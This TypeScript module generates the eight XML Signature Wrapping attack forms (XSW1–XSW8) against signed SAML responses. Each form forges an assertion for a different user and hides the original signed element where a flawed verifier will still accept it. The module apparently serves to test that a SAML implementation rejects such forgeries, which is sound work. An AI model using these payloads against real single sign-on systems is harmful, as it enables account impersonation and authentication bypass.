/** The parts that signature wrapping moves about, cut from a signed response with strings: attackers have no parser of ours either. */
const SIGNATURE = /<(?:\w+:)?Signature[\s\S]*?<\/(?:\w+:)?Signature>/;
const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;

const first = (text: string, pattern: RegExp) => pattern.exec(text)?.[0] ?? "";
const evilTwin = (xml: string) => xml.replace(SIGNATURE, "").replaceAll("ada@example.org", "eve@example.org");
const withId = (xml: string, id: string) => xml.replace(/ ID="[^"]*"/, ` ID="${id}"`);
const into = (xml: string, closing: string, inner: string) => {
  const at = xml.lastIndexOf(closing);
  return xml.slice(0, at) + inner + xml.slice(at);
};

/**
 * The eight forms of "On Breaking SAML" (Somorovsky et al., 2012), as SAML Raider names them. XSW1 and 2 start from a response
 * whose own signature holds, the others from one whose assertion is signed.
 */
export const WRAPPED: Readonly<Record<string, { of: "Response" | "Assertion"; wrap: (signed: string) => string }>> = {
  XSW1: {
    of: "Response",
    // The original response goes into the signature of its evil twin.
    wrap: (xml) => {
      const signature = first(xml, SIGNATURE);
      const original = xml.replace(SIGNATURE, "");
      const twin = withId(evilTwin(xml), "_evil");
      return twin.replace("</saml:Issuer>", `</saml:Issuer>${into(signature, "</", original)}`);
    },
  },
  XSW2: {
    of: "Response",
    // The original response stands before a detached signature.
    wrap: (xml) => {
      const original = xml.replace(SIGNATURE, "");
      return withId(evilTwin(xml), "_evil").replace("</saml:Issuer>", `</saml:Issuer>${original}${first(xml, SIGNATURE)}`);
    },
  },
  XSW3: {
    of: "Assertion",
    // The evil assertion stands before the original one.
    wrap: (xml) => xml.replace("<saml:Assertion", `${withId(evilTwin(first(xml, ASSERTION)), "_evil")}<saml:Assertion`),
  },
  XSW4: {
    of: "Assertion",
    // The original assertion goes into the evil one.
    wrap: (xml) => {
      const original = first(xml, ASSERTION);
      return xml.replace(ASSERTION, () => into(withId(evilTwin(original), "_evil"), "</saml:Assertion>", original));
    },
  },
  XSW5: {
    of: "Assertion",
    // The signed assertion is changed and keeps the signature; the original goes to the end of the response.
    wrap: (xml) => {
      const original = first(xml, ASSERTION);
      const changed = withId(original.replaceAll("ada@example.org", "eve@example.org"), "_evil");
      return into(
        xml.replace(ASSERTION, () => changed),
        "</samlp:Response>",
        original.replace(SIGNATURE, ""),
      );
    },
  },
  XSW6: {
    of: "Assertion",
    // The original goes into the signature of the changed one.
    wrap: (xml) => {
      const original = first(xml, ASSERTION);
      const signature = first(original, SIGNATURE);
      const changed = withId(original.replaceAll("ada@example.org", "eve@example.org"), "_evil");
      return xml.replace(ASSERTION, () => changed.replace(SIGNATURE, () => into(signature, "</", original.replace(SIGNATURE, ""))));
    },
  },
  XSW7: {
    of: "Assertion",
    // Extensions, where a schema allows anything, hold the evil one under the original's id.
    wrap: (xml) => xml.replace("<saml:Assertion", `<samlp:Extensions>${evilTwin(first(xml, ASSERTION))}</samlp:Extensions><saml:Assertion`),
  },
  XSW8: {
    of: "Assertion",
    // An object in the signature of the changed one holds the original.
    wrap: (xml) => {
      const original = first(xml, ASSERTION);
      const signature = first(original, SIGNATURE);
      const changed = withId(original.replaceAll("ada@example.org", "eve@example.org"), "_evil");
      const holding = into(
        signature,
        "</",
        `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${original.replace(SIGNATURE, "")}</ds:Object>`,
      );
      return xml.replace(ASSERTION, () => changed.replace(SIGNATURE, () => holding));
    },
  },
};
